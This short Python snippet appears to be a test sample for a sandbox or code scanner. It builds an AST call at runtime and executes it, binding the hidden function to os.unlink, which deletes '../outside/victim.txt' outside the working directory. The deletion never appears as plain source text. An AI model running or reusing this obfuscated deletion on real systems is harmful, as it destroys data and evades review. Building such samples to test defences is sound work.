# The call is built as a tree, without a source text.
# damage: deleted
import ast

name = ast.Name("gone", ast.Load())
path = ast.Constant("../outside/victim.txt")
tree = ast.Module([ast.Expr(ast.Call(name, [path], []))], [])
exec(compile(ast.fix_missing_locations(tree), "<tree>", "exec"), {"gone": __import__("os").unlink})
